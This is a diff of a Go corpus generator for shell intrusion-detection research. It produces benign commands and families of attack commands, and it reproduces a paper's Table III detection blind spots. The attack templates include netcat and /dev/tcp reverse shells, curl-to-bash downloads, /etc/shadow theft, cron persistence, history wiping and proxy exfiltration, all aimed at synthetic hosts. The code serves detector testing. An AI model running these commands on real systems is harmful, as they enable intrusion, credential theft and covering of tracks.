@@ -1,6 +1,13 @@
-package corpus
+package modality
+
+// The Unix-shell corpus generator, moved verbatim from internal/corpus when
+// modalities became pluggable. The exact *rand.Rand call sequence of every
+// function here is pinned by the corpus golden test (same seed → the same
+// corpus bytes the pre-registry generator produced); change draws only with
+// a deliberate golden refresh.
 
 import (
+	"encoding/base64"
 	"fmt"
 	"math/rand"
 	"strings"
@@ -266,9 +273,10 @@ func benignLine(r *rand.Rand, nm *naming) string {
 	return "ls"
 }
 
-// BenignCommandNames lists the command names the benign generator can emit;
-// the pre-processing frequency filter should learn approximately this set.
-func BenignCommandNames() []string {
+// ShellBenignCommandNames lists the command names the benign shell generator
+// can emit; the pre-processing frequency filter should learn approximately
+// this set.
+func ShellBenignCommandNames() []string {
 	out := make([]string, 0, len(benignTemplates))
 	for _, b := range benignTemplates {
 		out = append(out, b.name)
@@ -364,4 +372,180 @@ func reconLines(r *rand.Rand) []string {
 		{"cat /etc/passwd | head"},
 	}
 	return all[r.Intn(len(all))]
+}
+
+// attackVariant is one concrete intrusion generator. In-box variants match
+// the simulated commercial IDS rules; out-of-box variants are the paper's
+// Table III blind spots and must be caught by the learned methods.
+type attackVariant struct {
+	family string
+	inBox  bool
+	gen    func(r *rand.Rand, nm *naming) []string
+}
+
+// fakeB64 produces a base64 blob standing in for an encoded payload.
+func fakeB64(r *rand.Rand) string {
+	raw := make([]byte, 12+r.Intn(24))
+	for i := range raw {
+		raw[i] = byte(r.Intn(256))
+	}
+	return base64.StdEncoding.EncodeToString(raw)
+}
+
+// attackVariants enumerates all families. Table III correspondence:
+//
+//	nc -lvnp *                         | nc -ulp *
+//	masscan * -p 0-65535 --rate=1000   | sh /root/masscan.sh * -p 0-65535
+//	bash -i >& * 0>&1                  | java -cp tmp.jar "bash=bash -i >& *"
+//	export https_proxy="http:*"        | export https_proxy="socks5:*"
+//	java -jar tmp.jar -C "bash -c ..." | python3 tmp.py -p "bash -c ..."
+//	curl http://*/x.sh | bash          | wget -c http://* -o python ; python
+var attackVariants = []attackVariant{
+	// --- Family: nc listeners / connect-back shells ---
+	{"nc_shell", true, func(r *rand.Rand, nm *naming) []string {
+		forms := []string{
+			fmt.Sprintf("nc -lvnp %d", nm.port()),
+			fmt.Sprintf("nc -e /bin/sh %s %d", nm.ip(), nm.port()),
+			fmt.Sprintf("ncat -lvp %d -e /bin/bash", nm.port()),
+		}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+	{"nc_shell", false, func(r *rand.Rand, nm *naming) []string {
+		forms := []string{
+			fmt.Sprintf("nc -ulp %d", nm.port()),
+			fmt.Sprintf("ncat --udp -lp %d -e /bin/sh", nm.port()),
+		}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+
+	// --- Family: fd-redirection reverse shells ---
+	{"rev_shell", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf("bash -i >& /dev/tcp/%s/%d 0>&1", nm.ip(), nm.port())}
+	}},
+	{"rev_shell", false, func(r *rand.Rand, nm *naming) []string {
+		forms := []string{
+			fmt.Sprintf(`java -cp tmp.jar "bash=bash -i >& /dev/tcp/%s/%d 0>&1"`, nm.ip(), nm.port()),
+			fmt.Sprintf("sh -i >& /dev/udp/%s/%d 0>&1", nm.ip(), nm.port()),
+		}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+
+	// --- Family: port scanning ---
+	{"masscan", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf("masscan %s -p 0-65535 --rate=1000 >> tmp.txt", nm.ip())}
+	}},
+	{"masscan", false, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf("sh /root/masscan.sh %s -p 0-65535", nm.ip())}
+	}},
+
+	// --- Family: proxy exfiltration ---
+	{"proxy", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf(`export https_proxy="http://%s:%d"`, nm.ip(), nm.port())}
+	}},
+	{"proxy", false, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf(`export https_proxy="socks5://%s:%d"`, nm.ip(), nm.port())}
+	}},
+
+	// --- Family: base64-decode-and-execute ---
+	{"b64_exec", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf(`java -jar tmp.jar -C "bash -c {echo,%s} {base64,-d} {bash,-i}"`, fakeB64(r))}
+	}},
+	{"b64_exec", false, func(r *rand.Rand, nm *naming) []string {
+		forms := []string{
+			fmt.Sprintf(`python3 tmp.py -p "bash -c {echo,%s} {base64,-d} {bash,-i}"`, fakeB64(r)),
+			fmt.Sprintf("echo %s | base64 -d | bash -i", fakeB64(r)),
+		}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+
+	// --- Family: download-and-execute ---
+	{"download_exec", true, func(r *rand.Rand, nm *naming) []string {
+		forms := []string{
+			fmt.Sprintf("curl http://%s/%x.sh | bash", nm.ip(), r.Intn(1<<16)),
+			fmt.Sprintf("wget -q -O- http://%s/init.sh | sh", nm.ip()),
+		}
+		return []string{forms[r.Intn(len(forms))]}
+	}},
+	{"download_exec", false, func(r *rand.Rand, nm *naming) []string {
+		// The paper's §IV-C chain: download, rename to an innocuous
+		// interpreter name, then execute — only suspicious in context.
+		return []string{
+			fmt.Sprintf("wget -c http://%s/%x -o python", nm.ip(), r.Intn(1<<16)),
+			"python",
+		}
+	}},
+
+	// --- Family: credential theft ---
+	{"cred_theft", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{"cat /etc/shadow"}
+	}},
+	{"cred_theft", false, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf("tar -cf /tmp/.%x.tar /etc/shadow /etc/passwd", r.Intn(1<<16))}
+	}},
+
+	// --- Family: cron persistence ---
+	{"persistence", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf(`(crontab -l; echo "* * * * * curl http://%s/s.sh | sh") | crontab -`, nm.ip())}
+	}},
+	{"persistence", false, func(r *rand.Rand, nm *naming) []string {
+		return []string{fmt.Sprintf(`echo "* * * * * curl -fsSL http://%s/s.sh -o /tmp/.s && sh /tmp/.s" >> /var/spool/cron/root`, nm.ip())}
+	}},
+
+	// --- Family: anti-forensics ---
+	{"history_clear", true, func(r *rand.Rand, nm *naming) []string {
+		return []string{"history -c && rm -f ~/.bash_history"}
+	}},
+	{"history_clear", false, func(r *rand.Rand, nm *naming) []string {
+		return []string{"unset HISTFILE; ln -sf /dev/null ~/.bash_history"}
+	}},
+}
+
+// pickAttack samples a variant with the requested box-ness.
+func pickAttack(r *rand.Rand, outOfBox bool) attackVariant {
+	candidates := make([]attackVariant, 0, len(attackVariants)/2)
+	for _, v := range attackVariants {
+		if v.inBox != outOfBox {
+			candidates = append(candidates, v)
+		}
+	}
+	return candidates[r.Intn(len(candidates))]
+}
+
+// ShellAttackFamilies returns the distinct shell attack family names, for
+// reporting.
+func ShellAttackFamilies() []string {
+	seen := make(map[string]bool)
+	var out []string
+	for _, v := range attackVariants {
+		if !seen[v.family] {
+			seen[v.family] = true
+			out = append(out, v.family)
+		}
+	}
+	return out
+}
+
+// TableIIIPairs returns the paper's Table III verbatim as (in-box,
+// out-of-box) example pairs, with the paper's anonymized "*" arguments
+// instantiated to fixed synthetic values. Used by the qualitative analyses
+// (§V-C) and the generalization experiment (E6).
+func TableIIIPairs() [][2]string {
+	const (
+		ip   = "203.0.113.77"
+		port = "4444"
+		b64  = "cGtnIGluc3RhbGwgJiYgcnVuIC1kCg=="
+	)
+	return [][2]string{
+		{"nc -lvnp " + port, "nc -ulp " + port},
+		{"masscan " + ip + " -p 0-65535 --rate=1000 >> tmp.txt",
+			"sh /root/masscan.sh " + ip + " -p 0-65535"},
+		{"bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1",
+			`java -cp tmp.jar "bash=bash -i >& /dev/tcp/` + ip + "/" + port + ` 0>&1"`},
+		{`export https_proxy="http://` + ip + ":" + port + `"`,
+			`export https_proxy="socks5://` + ip + ":" + port + `"`},
+		{`java -jar tmp.jar -C "bash -c {echo,` + b64 + `} {base64,-d} {bash,-i}"`,
+			`python3 tmp.py -p "bash -c {echo,` + b64 + `} {base64,-d} {bash,-i}"`},
+		{"curl http://" + ip + "/a1f3.sh | bash",
+			"wget -c http://" + ip + "/a1f3 -o python"},
+	}
 }
